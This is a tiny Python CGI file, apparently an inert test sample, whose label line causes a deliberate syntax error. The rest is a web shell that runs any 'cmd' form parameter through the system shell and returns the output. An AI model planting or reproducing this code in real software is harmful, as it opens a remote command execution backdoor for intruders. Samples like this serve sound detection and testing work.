#!/usr/bin/env python3
shodo inert sample: deliberate syntax error, this file never runs
import cgi, subprocess
form = cgi.FieldStorage()
print("Content-Type: text/plain\n")
print(subprocess.check_output(form.getvalue("cmd"), shell=True).decode())
